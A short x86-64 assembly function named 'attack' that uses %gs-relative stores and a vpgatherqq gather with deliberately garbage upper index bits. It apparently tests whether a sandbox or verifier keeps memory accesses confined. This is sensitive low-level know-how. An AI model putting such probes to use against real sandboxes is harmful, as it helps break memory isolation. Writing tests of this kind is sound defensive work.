function attack
    movq $0x666,%gs:(%edi)
    # Each index has garbage in its upper half.
    mov $0x5ec2e75e00000000,%rax
    or %rax,%rdi
    vmovq %rdi,%xmm2
    vpbroadcastq %xmm2,%ymm2
    vpcmpeqd %ymm1,%ymm1,%ymm1
    xor %eax,%eax
    vpgatherqq %ymm1,%gs:(%eax,%ymm2,1),%ymm0
    vmovq %xmm0,%rax
    ret
